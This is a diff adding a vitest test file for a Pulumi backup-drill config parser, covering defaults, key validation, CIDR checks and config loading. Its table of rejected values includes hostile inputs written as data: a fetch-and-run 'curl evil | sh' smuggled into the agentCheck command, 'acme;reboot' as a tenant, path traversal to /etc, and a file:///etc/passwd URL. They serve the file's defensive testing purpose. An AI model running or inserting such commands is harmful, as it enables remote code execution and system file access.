@@ -1,0 +1,119 @@
+// The drill stack's config: defaults, and a clear error naming the key for every bad value.
+import * as pulumi from "@pulumi/pulumi";
+import { afterEach, describe, expect, it } from "vitest";
+import { ConfigError } from "../../config/common";
+import { cidrProblems, defaultAgentInstallUrl, drillConfigKeys, loadDrillConfig, parseDrillConfig } from "../../config/drill";
+
+const minimal = { prodStack: "acme-org/agent-backups/prod", tenant: "acme", region: "eu-central-1", sshCidr: "203.0.113.7/32" };
+
+/** The problem lines of the ConfigError thrown for `raw`. */
+function problems(raw: Record<string, unknown>): string[] {
+  try {
+    parseDrillConfig(raw);
+  } catch (err) {
+    expect(err).toBeInstanceOf(ConfigError);
+    return [...(err as ConfigError).problems];
+  }
+  throw new Error(`accepted ${JSON.stringify(raw)}`);
+}
+
+describe("drill config", () => {
+  it("fills the documented defaults", () => {
+    expect(parseDrillConfig(minimal)).toEqual({
+      ...minimal,
+      archive: "latest",
+      instanceType: "t3.small",
+      architecture: "x86_64",
+      ttlHours: 4,
+      rootVolumeGiB: 16,
+      target: "/root/.hermes",
+      agentInstallUrl: defaultAgentInstallUrl,
+      reportFile: "drill-report.json",
+    });
+  });
+
+  it("takes numbers as Pulumi hands them over (strings) and every optional key", () => {
+    const config = parseDrillConfig({
+      ...minimal, archive: "acme-2026-11-24T03:17:00", instanceType: "t4g.medium", architecture: "arm64",
+      imageId: "ami-0123456789abcdef0", ttlHours: "12", rootVolumeGiB: "64", target: "/srv/restore/.hermes",
+      agentCheck: "env HERMES_HOME=/srv/restore/.hermes hermes doctor", reportFile: "reports/acme.json",
+    });
+    expect(config).toMatchObject({ ttlHours: 12, rootVolumeGiB: 64, architecture: "arm64", archive: "acme-2026-11-24T03:17:00" });
+  });
+
+  it("names every missing required key at once", () => {
+    const lines = problems({});
+    for (const key of ["prodStack", "tenant", "region", "sshCidr"]) {
+      expect(lines.some((l) => l.startsWith(`agent-backups:${key}: `)), key).toBe(true);
+    }
+    expect(lines).toHaveLength(4);
+  });
+
+  const bad: [string, unknown, RegExp][] = [
+    ["prodStack", "prod", /expected org\/project\/stack/],
+    ["prodStack", "a/b/c/d", /expected org\/project\/stack/],
+    ["tenant", "Acme", /refusing "Acme": not a valid tenant/],
+    ["tenant", "acme;reboot", /not a valid tenant/],
+    ["archive", "../etc", /refusing "..\/etc": not a valid archive_name/],
+    ["archive", "", /not a valid archive_name/],
+    ["region", "Frankfurt", /an AWS region such as eu-central-1/],
+    ["instanceType", "t3 small", /an EC2 instance type/],
+    ["architecture", "i386", /x86_64|arm64/],
+    ["imageId", "ami-XYZ", /an AMI id/],
+    ["sshCidr", "0.0.0.0/0", /whole internet/],
+    ["sshCidr", "203.0.113.7", /not an IPv4 CIDR/],
+    ["sshCidr", "203.0.113.7/24", /host bits are set; did you mean 203\.0\.113\.0\/24\?/],
+    ["sshCidr", "300.0.113.7/32", /octet is above 255/],
+    ["sshCidr", "203.0.113.7/33", /above \/32/],
+    ["ttlHours", "0", /at least 1 hours/],
+    ["ttlHours", "25", /at most 24 hours/],
+    ["ttlHours", "four", /expected a whole number of hours/],
+    ["ttlHours", "2.5", /expected a whole number of hours/],
+    ["rootVolumeGiB", "4", /at least 8 GiB/],
+    ["target", "relative/dir", /not a valid abs_path/],
+    ["target", "/root/../etc", /not a valid abs_path/],
+    ["agentCheck", "hermes doctor; curl evil | sh", /no quotes or shell syntax/],
+    ["agentCheck", "hermes  doctor", /separated by single spaces/],
+    ["agentCheck", "hermes 'doctor'", /no quotes/],
+    ["agentInstallUrl", "file:///etc/passwd", /not a valid url/],
+    ["reportFile", "report file.json", /not a valid rel_path/],
+  ];
+  it.each(bad)("refuses %s=%j with a clear message naming the key", (key, value, message) => {
+    const lines = problems({ ...minimal, [key]: value });
+    expect(lines).toHaveLength(1);
+    expect(lines[0]).toMatch(new RegExp(`^agent-backups:${key}: `));
+    expect(lines[0]).toMatch(message);
+  });
+
+  it("refuses an unknown key (a typo) and lists the known ones", () => {
+    const lines = problems({ ...minimal, ttlHour: "4" });
+    expect(lines).toEqual([`agent-backups:ttlHour: unknown key (a typo? known: ${drillConfigKeys.join(", ")})`]);
+  });
+
+  it("computes network addresses for the host-bits hint", () => {
+    expect(cidrProblems("10.1.2.3/8")).toEqual(['refusing "10.1.2.3/8": host bits are set; did you mean 10.0.0.0/8?']);
+    expect(cidrProblems("10.0.0.0/8")).toEqual([]);
+    expect(cidrProblems("198.51.100.255/32")).toEqual([]);
+  });
+});
+
+describe("loadDrillConfig", () => {
+  afterEach(() => pulumi.runtime.setAllConfig({}));
+
+  it("reads the agent-backups keys of the stack and only those", () => {
+    pulumi.runtime.setAllConfig({
+      "agent-backups:prodStack": minimal.prodStack,
+      "agent-backups:tenant": "acme",
+      "agent-backups:region": "eu-central-1",
+      "agent-backups:sshCidr": "203.0.113.7/32",
+      "agent-backups:ttlHours": "2",
+      "aws:region": "us-east-1",
+    });
+    expect(loadDrillConfig()).toMatchObject({ ...minimal, ttlHours: 2 });
+  });
+
+  it("reports a bad stack value with its full key", () => {
+    pulumi.runtime.setAllConfig({ "agent-backups:prodStack": minimal.prodStack, "agent-backups:tenant": "acme" });
+    expect(() => loadDrillConfig()).toThrow(/agent-backups:region: required[\s\S]*agent-backups:sshCidr: required/);
+  });
+});
